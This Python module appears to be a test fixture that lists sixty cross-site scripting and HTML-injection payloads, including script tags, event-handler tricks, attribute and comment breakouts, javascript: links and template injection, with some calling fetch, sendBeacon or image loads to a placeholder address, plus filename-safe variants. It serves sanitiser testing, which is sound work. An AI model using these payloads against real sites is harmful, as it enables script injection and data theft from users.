"""Texts that run as a script, or fetch something, wherever they are taken for anything but text: sixty ways.

Whoever runs one sets `escaped` on the window, or asks for an address that has the word in it.
"""

MARK = "escaped"
_AT = "@AT"
_PAYLOADS = (
    # elements that run by themselves
    "<script>window.escaped=1</script>",
    "<ScRiPt>window.escaped=1</sCrIpT>",
    "<script src=@AT></script>",
    "<script>import('@AT')</script>",
    "<script type=module>window.escaped=1</script>",
    "<scr<script>ipt>window.escaped=1</scr</script>ipt>",
    "<script/x>window.escaped=1</script>",
    "<script>fetch('@AT')</script>",
    "<script>new Image().src='@AT'</script>",
    "<script>navigator.sendBeacon('@AT','x')</script>",
    "<script>document.title=window.escaped='escaped'</script>",
    "<script>localStorage.escaped=window.escaped=1</script>",
    # handlers that need nobody
    "<img src=x onerror=window.escaped=1>",
    "<img src=x onerror='window.escaped=1'//",
    '<img src="x" onerror="window.escaped=1" alt="a">',
    "<IMG SRC=x OnErRoR=window.escaped=1>",
    "<img/src=x/onerror=window.escaped=1>",
    "<img src onerror=&#119;indow.escaped=1>",
    "<image src=x onerror=window.escaped=1>",
    "<svg onload=window.escaped=1>",
    "<svg/onload=window.escaped=1>",
    "<svg><script>window.escaped=1</script></svg>",
    "<svg><g onload=window.escaped=1></g></svg>",
    "<svg><animate onbegin=window.escaped=1 attributeName=x dur=1s>",
    "<svg><set onbegin=window.escaped=1 attributeName=x to=1>",
    "<body onload=window.escaped=1>",
    "<body onpageshow=window.escaped=1>",
    "<input autofocus onfocus=window.escaped=1>",
    "<a tabindex=1 autofocus onfocus=window.escaped=1>x</a>",
    "<details open ontoggle=window.escaped=1>x</details>",
    "<video><source onerror=window.escaped=1></video>",
    "<audio src=x onerror=window.escaped=1></audio>",
    "<style onload=window.escaped=1></style>",
    "<link rel=stylesheet href=@AT onerror=window.escaped=1>",
    "<iframe onload=window.escaped=1></iframe>",
    "<iframe srcdoc='<script>parent.escaped=1</script>'></iframe>",
    "<iframe src='javascript:parent.escaped=1'></iframe>",
    "<object data=x onerror=window.escaped=1></object>",
    "<marquee onstart=window.escaped=1>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.escaped=1>",
    # out of an attribute, an element, a comment, a string
    '"><script>window.escaped=1</script>',
    "'><img src=x onerror=window.escaped=1>",
    '" autofocus onfocus="window.escaped=1" x="',
    "</title><script>window.escaped=1</script>",
    "</textarea><script>window.escaped=1</script>",
    "</script><script>window.escaped=1</script>",
    "--><img src=x onerror=window.escaped=1><!--",
    "]]><img src=x onerror=window.escaped=1>",
    "`;window.escaped=1//${window.escaped=1}",
    "'-(window.escaped=1)-'",
    # what is fetched, and where one is sent
    '<meta http-equiv="refresh" content="0;url=@AT">',
    "<img src=@AT>",
    "![x](@AT)",
    "<style>@import '@AT';*{background:url(@AT)}</style>",
    "<form action=@AT><input type=submit autofocus onfocus=form.submit()></form>",
    # links, templates, and names that look like something else
    "[x](javascript:window.escaped=1)",
    "<a href=javascript:window.escaped=1>x</a>",
    "javascript:/*--></title></style></script><svg/onload=window.escaped=1>",
    "{{constructor.constructor('window.escaped=1')()}}",
    "data:text/html,<script>window.escaped=1</script>",
)


def payloads(at: str) -> list[str]:
    """Sixty; `at` is what they try to reach."""
    return [each.replace(_AT, at) for each in _PAYLOADS]


def file_names(at: str) -> list[str]:
    """The same, as far as a file can be called so: no slash, at most 255 characters."""
    return [each.replace("/", "\N{DIVISION SLASH}").replace("\\", "-")[:250] for each in payloads(at)]
